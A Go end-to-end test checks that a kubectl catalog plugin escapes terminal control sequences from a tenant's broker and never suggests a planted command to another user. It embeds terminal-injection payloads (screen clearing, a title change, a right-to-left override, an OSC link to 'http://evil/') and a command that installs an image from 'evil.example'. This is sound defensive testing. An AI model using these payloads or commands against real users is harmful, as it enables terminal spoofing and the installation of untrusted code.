package e2e

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kubectl-catalog/kubectl-catalog/pkg/apis/catalog/v1alpha1"
	"github.com/kubectl-catalog/kubectl-catalog/pkg/engine"
	"github.com/kubectl-catalog/kubectl-catalog/pkg/store"
	"github.com/kubectl-catalog/kubectl-catalog/test/controlplane"
)

// What a tenant's broker names its class and plan: terminal control sequences (clear
// the screen, set the window title, return to the start of the line, reverse what
// follows) and a command for whoever reads it to run.
const (
	termClass   = "db\x1b[2J\x1b]0;owned\x07\r\u202eevil"
	termPlanned = "kubectl catalog reconcile install --image evil.example/reconcile"
	termPlan    = "gold\x1b[1A\x1b[2K" + termPlanned
)

// termBroker serves a catalog whose class and plan carry termClass and termPlan.
func termBroker(t *testing.T) string {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if r.Method == http.MethodGet && r.URL.Path == "/v2/catalog" {
			_, _ = w.Write([]byte(`{"services":[{"id":"7c1d-term-svc","name":` + jsonString(termClass) + `,"description":` + jsonString("a db\x1b[31m red") + `,"bindable":true,` +
				`"plans":[{"id":"7c1d-term-plan","name":` + jsonString(termPlan) + `,"description":` + jsonString("plan\x1b]8;;http://evil/\x07link") + `,"free":true}]}]}`))
			return
		}
		_, _ = w.Write([]byte(`{}`))
	}))
	t.Cleanup(srv.Close)
	return srv.URL
}

func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteString(`\` + string(r))
		case r < 0x20 || r == 0x7f:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&0xf])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

// termClean checks that out holds no raw control sequence and no "resolve" or "To fix"
// line that names the planted command.
func termClean(t *testing.T, what, out string) {
	t.Helper()
	for _, c := range []string{"\x1b", "\x07", "\r", "\u202e"} {
		assert.Check(t, !strings.Contains(out, c), "%s prints %q raw:\n%s", what, c, out)
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.Contains(l, "resolve:") || strings.HasPrefix(strings.TrimSpace(l), "To fix") || strings.Contains(l, "run:") {
			assert.Check(t, !strings.Contains(l, termPlanned), "%s suggests the planted command: %s", what, l)
		}
	}
}

// TestTerminalText_ATenantsBrokerAndRecords_CannotDriveAnotherUsersTerminal: alice runs a
// namespace broker whose class and plan names hold terminal control sequences and a
// "kubectl catalog ..." command, and writes an instance record whose refusal quotes that
// plan. bob, who reads team-a (kubectl-catalog-viewer), runs get, describe, marketplace
// and doctor there: the output holds no raw control character, and no fix it suggests is
// the planted command.
func TestTerminalText_ATenantsBrokerAndRecords_CannotDriveAnotherUsersTerminal(t *testing.T) {
	serial(t, clusterTrustPolicy)
	e := trustSetup(t)
	sharingRoles(t, e, false)
	r := sharingAlice(t, e, "register", "term", "--url", termBroker(t), "--scope", "namespace")
	assert.Equal(t, r.ExitCode, 0, r.Stderr)
	classes := recStore(t).Classes()
	cs, err := classes.List(t.Context(), e.teamA, store.Filter{})
	assert.NilError(t, err)
	assert.Assert(t, len(cs) == 1 && cs[0].Spec.ExternalName == termClass, "the catalog is stored as the broker named it: %+v", cs)

	// A record alice writes: refused, as the engine words a refusal of that plan.
	forged := engine.NewInstance(e.teamA, "forged", cs[0], &cs[0].Spec.Plans[0], nil, nil, "")
	meta.SetStatusCondition(&forged.Status.Conditions, metav1.Condition{Type: v1alpha1.ConditionRefused, Status: metav1.ConditionTrue,
		Reason: engine.ReasonRefusedPlanNotAllowed, Message: `plan "` + termPlanned + `" of class "` + termClass + `" is not available in namespace "` + e.teamA +
			`" (catalog access rules): an administrator enables it with "` + termPlanned + `"`})
	meta.SetStatusCondition(&forged.Status.Conditions, metav1.Condition{Type: v1alpha1.ConditionReady, Status: metav1.ConditionFalse,
		Reason: "Refused\x1b[8m", Message: "hidden\x1b[8m"})
	tenantForge(t, e, forged, nil)

	bob := func(args ...string) result {
		t.Helper()
		return kubectl(t, controlplane.BobUser, append([]string{"catalog", "-n", e.teamA, "--catalog-namespace", e.catalogNS}, args...)...)
	}
	for _, args := range [][]string{
		{"get", "classes"}, {"get", "classes", "-o", "wide"}, {"get", "plans"}, {"get", "plans", "-o", "wide"}, {"get", "brokers"},
		{"marketplace"}, {"get", "instances"}, {"describe", "broker", "term"}, {"describe", "class", termClass},
		{"describe", "plan", termPlan, "--class", termClass}, {"describe", "instance", "forged"},
	} {
		r := bob(args...)
		assert.Check(t, r.ExitCode == 0, "%v: %s", args, r.Stderr)
		termClean(t, strings.Join(args, " "), r.Stdout+r.Stderr)
	}
	r = bob("describe", "instance", "forged")
	assert.Assert(t, is.Contains(r.Stdout, "Refused:"), r.Stdout)
	assert.Assert(t, is.Contains(r.Stdout, "^[["), "the control sequences are shown escaped: %s", r.Stdout)
	r = bob("get", "plans")
	assert.Assert(t, is.Contains(r.Stdout, "gold^[[1A^[[2K"), r.Stdout)

	r = instRun(t, e.teamA, []string{"KUBECONFIG=" + e.saKubeconfig}, "doctor", "--broker-timeout", "3s", "--catalog-namespace", e.catalogNS, "--reconcile-namespace", e.catalogNS)
	termClean(t, "doctor", r.Stdout+r.Stderr)
	r = bob("doctor", "--broker-timeout", "3s", "--reconcile-namespace", e.catalogNS)
	termClean(t, "doctor", r.Stdout+r.Stderr)
}
